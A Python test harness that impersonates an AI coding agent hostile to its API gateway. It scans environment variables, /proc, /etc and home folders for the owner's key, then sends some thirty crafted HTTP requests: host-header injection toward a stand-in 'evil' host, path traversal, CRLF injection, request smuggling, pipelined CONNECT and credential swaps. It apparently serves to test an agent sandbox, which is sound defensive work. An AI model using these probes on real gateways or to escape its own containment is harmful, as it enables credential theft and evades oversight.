# pyright: basic
"""An agent that is hostile to its gateway; run in a task, by the system's Python, alone.

It takes the place of the agent's program. The prompt is the owner's key, written backwards, so
that it can look for what it must not find. Prints one line for each attempt, and `found` lines.
"""

import os
import socket
import sys
from urllib.parse import urlsplit

LIMIT_S = 20


def requests(base, dummy, evil):
    """Return what is tried, by name: the bytes of each connection."""
    path, here = base.path, base.netloc
    good = f"POST {path}/v1/messages HTTP/1.1"

    def ask(first=good, *more, host=here, key=dummy, body="{}", framing=None):
        length = framing or f"content-length: {len(body)}"
        shown = [f"x-api-key: {key}"] if key else []
        lines = [first, f"host: {host}", *shown, length, *more]
        return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()

    files = ask(f"POST {path}/v1/files HTTP/1.1")
    return {
        "honest": ask(),
        "absolute form": ask(f"POST http://{evil}{path}/v1/messages HTTP/1.1"),
        "absolute form, own host": ask(f"POST http://{here}{path}/v1/messages HTTP/1.1"),
        "another host": ask(host=evil),
        "two hosts": ask(good, f"host: {evil}"),
        "a folded host": ask(good, f"x: y\r\n host: {evil}"),
        "forwarded host": ask(good, f"x-forwarded-host: {evil}", f"forwarded: host={evil}"),
        "another method by a header": ask(good, "x-http-method-override: DELETE"),
        "another path by a header": ask(good, "x-original-url: /v1/files"),
        "files": files,
        "files by dots": ask(f"POST {path}/v1/messages/../files HTTP/1.1"),
        "files by coded dots": ask(f"POST {path}/v1/messages/%2e%2e/files HTTP/1.1"),
        "files by a backslash": ask(f"POST {path}/v1/messages\\..\\files HTTP/1.1"),
        "two slashes": ask(f"POST //{evil}/v1/messages HTTP/1.1"),
        "a user in the path": ask(f"POST @{evil}/v1/messages HTTP/1.1"),
        "a line in the path": ask(f"POST {path}/v1/messages\r\nx: HTTP/1.1"),
        "a bare line end": ask(good, f"anthropic-x: y\nhost: {evil}"),
        "a parameter": ask(f"POST {path}/v1/messages?key=other HTTP/1.1"),
        "deletion": ask(f"DELETE {path}/v1/messages HTTP/1.1"),
        "both lengths": ask(
            good, "transfer-encoding: chunked", body="0\r\n\r\n" + files.decode("latin-1")
        ),
        "an odd encoding": ask(
            good,
            body="0\r\n\r\n" + files.decode("latin-1"),
            framing="transfer-encoding: xchunked",
        ),
        "in a pipeline": ask() + files,
        "in a body": ask(body=files.decode("latin-1")),
        "CONNECT in a pipeline": ask()
        + f"CONNECT {evil} HTTP/1.1\r\nhost: {evil}\r\n\r\n".encode(),
        "a websocket": ask(
            f"GET {path}/v1/messages HTTP/1.1", "connection: upgrade", "upgrade: websocket"
        ),
        "no credential": ask(key=""),
        "another credential": ask(key="cmesh-task-of-another"),
        "own key beside": ask(good, "authorization: Bearer mine", "cookie: a=b"),
        "a long head": ask(good, "anthropic-x: " + "y" * 200000),
        "redirect": ask(good, "anthropic-play: redirect"),
    }


def answers(base, data):
    """Send bytes and return the status codes of all answers."""
    with socket.create_connection((base.hostname, base.port), LIMIT_S) as s:
        try:
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # it was refused before its end
        said = b""
        try:
            while more := s.recv(65536):
                said += more
        except OSError:
            pass
    return [part[:3].decode("latin-1") for part in said.split(b"HTTP/1.1 ")[1:]]


def places():
    """Return all that could hold the key, as bytes by name."""
    yield "environment", repr(os.environ).encode()
    for top in ("/proc", os.environ["HOME"], os.environ["TMPDIR"], "/run", "/etc", os.getcwd()):
        for folder, _folders, names in os.walk(top):
            if top == "/proc" and folder.count("/") > 2:
                continue
            for name in names if top != "/proc" else ("environ", "cmdline"):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        yield os.path.join(folder, name), file.read(1 << 20)
                except OSError:
                    pass


def main():
    if "--version" in sys.argv:
        print("2.1.330 (Claude Code)")
        return
    key = sys.stdin.read().strip()[::-1].encode()
    print("found", [name for name, data in places() if key in data])
    base = urlsplit(os.environ["ANTHROPIC_BASE_URL"])
    dummy = os.environ["ANTHROPIC_API_KEY"]
    evil = open("evil").read().strip()
    for name, data in requests(base, dummy, evil).items():
        print(f"{name}:", *answers(base, data))
    print("the end")


main()
